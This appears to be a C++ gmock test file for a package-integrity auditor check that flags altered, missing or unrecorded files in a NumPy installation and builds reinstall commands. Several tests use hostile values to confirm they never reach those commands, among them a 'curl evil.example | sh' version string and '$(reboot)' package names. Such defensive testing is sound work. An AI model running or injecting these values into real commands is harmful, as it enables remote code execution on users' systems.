#include <gmock/gmock.h>

#include "tests/auditor/checks/check_under_test.h"
#include "tests/support/made_up_subjects.h"

namespace fairplay {

using auditor::FileDeviation;
using auditor::Severity;
using auditor::Territory;
using tests::findings_of;
using tests::hits_of;

namespace {

auditor::Subject broken(std::vector<FileDeviation> failed, auditor::Subject subject = tests::wheel_numpy()) {
  subject.intact.verdict = auditor::Verdict::no;
  subject.intact.failed = std::move(failed);
  return subject;
}

const FileDeviation changed{"numpy/_core/numeric.py", FileDeviation::Why::changed, Territory::package, true,
                            "sha256 recorded ab, found cd"};
const FileDeviation missing{"numpy/version.py", FileDeviation::Why::missing, Territory::package, true, ""};
const FileDeviation importable{"numpy/evil.py", FileDeviation::Why::extra, Territory::package, true, ""};
const FileDeviation extra{"numpy/NOTES", FileDeviation::Why::extra, Territory::package, false, ""};
const FileDeviation stale{"numpy/__pycache__/version.cpython-311.pyc", FileDeviation::Why::extra, Territory::package,
                          false, "stale bytecode"};
const FileDeviation outside{"../../../bin/f2py", FileDeviation::Why::missing, Territory::outside, false, ""};

const FileDeviation start_up{"evil.pth", FileDeviation::Why::extra, Territory::outside, false, "Python runs its lines"};

}  // namespace

TEST(Intact1, StartUpFilesThatNobodyRecordedAreANote) {
  const auto findings = findings_of({broken({start_up})});
  ASSERT_EQ(findings.size(), 1U);
  EXPECT_EQ(findings[0].severity, Severity::note);
  EXPECT_EQ(findings[0].message,
            "1 file that Python starts by itself beside NumPy, not in any package's record: evil.pth");
  auto unrecorded = broken({start_up, changed});
  unrecorded.intact.verdict = auditor::Verdict::unknown;
  ASSERT_EQ(findings_of({unrecorded}).size(), 1U) << "others' records count without NumPy's own";
}

TEST(Intact1, EveryCaseHasItsSeverityAndWords) {
  const struct {
    FileDeviation deviation;
    Severity severity;
    const char* message;
  } table[] = {
      {changed, Severity::error,
       "1 file changed since installation, according to RECORD of numpy-2.3.5.dist-info: numpy/_core/numeric.py"},
      {missing, Severity::error, "1 file missing, according to RECORD of numpy-2.3.5.dist-info: numpy/version.py"},
      {importable, Severity::error,
       "1 file not in any record, which Python can import or the loader can load: numpy/evil.py"},
      {extra, Severity::note, "1 file not in any record, not importable: numpy/NOTES"},
      {stale, Severity::note,
       "1 file of bytecode that Python won't use, stale or without a source: "
       "numpy/__pycache__/version.cpython-311.pyc"},
      {outside, Severity::note,
       "1 file outside the package folder changed, missing or added, according to RECORD of numpy-2.3.5.dist-info: "
       "../../../bin/f2py"},
  };
  for (const auto& row : table) {
    const auto findings = findings_of({broken({row.deviation})});
    ASSERT_EQ(findings.size(), 1U) << row.message;
    EXPECT_EQ(findings[0].severity, row.severity) << row.message;
    EXPECT_EQ(findings[0].message, row.message);
  }
}

TEST(Intact1, OneFindingACaseErrorsFirst) {
  const auto findings = findings_of({broken({outside, changed, extra, missing, importable, changed})});
  ASSERT_EQ(findings.size(), 5U);
  EXPECT_EQ(findings[0].severity, Severity::error);
  EXPECT_EQ(findings[4].severity, Severity::note);
}

TEST(Intact1, TheMessageNamesThreeAndEvidenceAll) {
  std::vector<FileDeviation> many;
  for (char c = 'a'; c <= 'h'; ++c)
    many.push_back({std::string("numpy/") + c + ".py", FileDeviation::Why::changed, Territory::package, true, ""});
  const auto findings = findings_of({broken(many)});
  ASSERT_EQ(findings.size(), 1U);
  EXPECT_EQ(findings[0].message,
            "8 files changed since installation, according to RECORD of numpy-2.3.5.dist-info: numpy/a.py, numpy/b.py, "
            "numpy/c.py and 5 more");
  EXPECT_EQ(findings[0].evidence.size(), 8U);
}

TEST(Intact1, AnAddedImportableFileCountsWhereverItLies) {
  FileDeviation hook = importable;
  hook.territory = Territory::outside;
  const auto hits = hits_of("INTACT-1", {broken({hook})});
  ASSERT_EQ(hits.size(), 1U);
  EXPECT_EQ(hits[0].case_name, "added-importable");
}

TEST(Intact1, NotesStandBesideAYes) {
  auditor::Subject subject = broken({outside});
  subject.intact.verdict = auditor::Verdict::yes;
  EXPECT_EQ(hits_of("INTACT-1", {subject}).size(), 1U);
}

TEST(Intact1, SilentWhereNothingIsKnownOrWrong) {
  auditor::Subject unknown = broken({changed, importable});
  unknown.intact.verdict = auditor::Verdict::unknown;
  EXPECT_TRUE(hits_of("INTACT-1", {unknown}).empty());
  EXPECT_TRUE(hits_of("INTACT-1", {tests::wheel_numpy(), tests::debian_numpy()}).empty());
  EXPECT_TRUE(hits_of("INTACT-1", {broken({})}).empty());
  EXPECT_TRUE(hits_of("INTACT-1", {}).empty());
}

TEST(Intact1, TheRemedyIsTheInstallers) {
  EXPECT_NE(findings_of({broken({changed})})[0].remedy.find("pip install --force-reinstall --no-deps numpy==2.3.5"),
            std::string::npos);
  const auto debian = findings_of({broken({changed}, tests::debian_numpy())})[0].remedy;
  EXPECT_NE(debian.find("apt-get install --reinstall python3-numpy."), std::string::npos) << debian;
  EXPECT_NE(debian.find("they guard against accident, not against intent"), std::string::npos);
  auditor::Subject wheel = broken({changed});
  wheel.installer = auditor::Installer::none;
  wheel.path = "/tmp/numpy-2.3.5.whl";
  EXPECT_NE(findings_of({wheel})[0].remedy.find("Don't install it"), std::string::npos);
  wheel.path = "/tmp/deploy.zip/numpy";
  wheel.packed = true;
  EXPECT_NE(findings_of({wheel})[0].remedy.find("pack the archive again"), std::string::npos);
}

TEST(Intact1, TheRemedyFitsThePlace) {
  using Kind = auditor::Environment::Kind;
  const auto remedy = [](Kind kind, const char* name, const char* path, const char* installer) {
    auditor::Subject subject = broken({changed});
    subject.environment = {kind, name};
    subject.path = path;
    subject.installer_name = installer;
    return findings_of({subject})[0].remedy;
  };
  const auto has = [](const char* words) { return testing::HasSubstr(words); };
  EXPECT_THAT(remedy(Kind::venv, "/v", "/v/lib/python3.11/site-packages/numpy", "pip"),
              has("/v/bin/python -m pip install --force-reinstall"));
  EXPECT_THAT(remedy(Kind::venv, "/v", "/v/lib/python3.11/site-packages/numpy", "uv"),
              has("uv pip install --python /v/bin/python --reinstall"));
  EXPECT_THAT(remedy(Kind::folder, "", "/srv/t/numpy", "uv"), has("uv pip install --target /srv/t --reinstall"));
  EXPECT_THAT(remedy(Kind::folder, "", "/srv/t/numpy", "pip"), has("python3 -m pip install --upgrade"));
  EXPECT_THAT(remedy(Kind::pipx, "fonttools", "/p/pipx/venvs/fonttools/lib/python3.11/site-packages/numpy", "pip"),
              has("pipx runpip fonttools install --force-reinstall"));
  EXPECT_THAT(remedy(Kind::uv_tool, "x", "/p/uv/tools/x/lib/python3.11/site-packages/numpy", "uv"),
              has("uv pip install --python /p/uv/tools/x/bin/python"));
  EXPECT_THAT(remedy(Kind::user_site, "", "/home/a/.local/lib/python3.11/site-packages/numpy", "pip"),
              has("python3.11 -m pip install --user"));
  EXPECT_THAT(remedy(Kind::system, "/usr/local", "/usr/local/lib/python3.11/dist-packages/numpy", "pip"),
              has("as root: python3.11 -m pip install --force-reinstall"));
  EXPECT_THAT(remedy(Kind::pyenv, "2.7.18", "/p/versions/2.7.18/lib/python2.7/site-packages/numpy", "pip"),
              has("/p/versions/2.7.18/bin/python2.7 -m pip"));
  EXPECT_THAT(remedy(Kind::pipx, "x; reboot", "/tmp/a b/lib/python3.11/site-packages/numpy", "pip"),
              has("pipx runpip ENVIRONMENT install"));
}

TEST(Intact1, HarmlessDeviationsAskForNothing) {
  for (const FileDeviation& deviation : {outside, stale})
    EXPECT_THAT(findings_of({broken({deviation})})[0].remedy, testing::HasSubstr("here is nothing to do"));
}

TEST(Intact1, AHostileVersionNeverEntersACommand) {
  auditor::Subject subject = broken({changed});
  subject.version = "2.3.5; curl evil.example | sh";
  EXPECT_NE(findings_of({subject})[0].remedy.find("--no-deps NAME==VERSION"), std::string::npos);
  auditor::Subject package = broken({changed}, tests::debian_numpy());
  package.package = "$(reboot) 1.0";
  EXPECT_NE(findings_of({package})[0].remedy.find("--reinstall PACKAGE"), std::string::npos);
  package.package = "--option 1.0";
  EXPECT_NE(findings_of({package})[0].remedy.find("--reinstall PACKAGE"), std::string::npos);
}

TEST(Intact1, FingerprintsKnowTheFilesAndNotThePlace) {
  auto moved = broken({changed});
  moved.path = "/somewhere/else/numpy";
  moved.environment = auditor::Environment{auditor::Environment::Kind::venv, "/somewhere"};
  EXPECT_EQ(findings_of({broken({changed})})[0].fingerprint, findings_of({moved})[0].fingerprint);
  auto other = changed;
  other.path = "numpy/linalg/_linalg.py";
  EXPECT_NE(findings_of({broken({changed})})[0].fingerprint, findings_of({broken({other})})[0].fingerprint);
}

TEST(Intact1, MalformedFacts) {
  auditor::Subject subject =
      broken({{tests::hostile("x"), FileDeviation::Why::changed, Territory::package, true, tests::hostile("y")}, {}});
  subject.intact.record.clear();
  const auto findings = findings_of({subject});
  ASSERT_EQ(findings.size(), 1U);
  EXPECT_NE(findings[0].message.find("according to its record: ::error::x"), std::string::npos);
  EXPECT_NE(findings[0].message.find("{names}"), std::string::npos) << "values are filled in once, never again";
}

}  // namespace fairplay
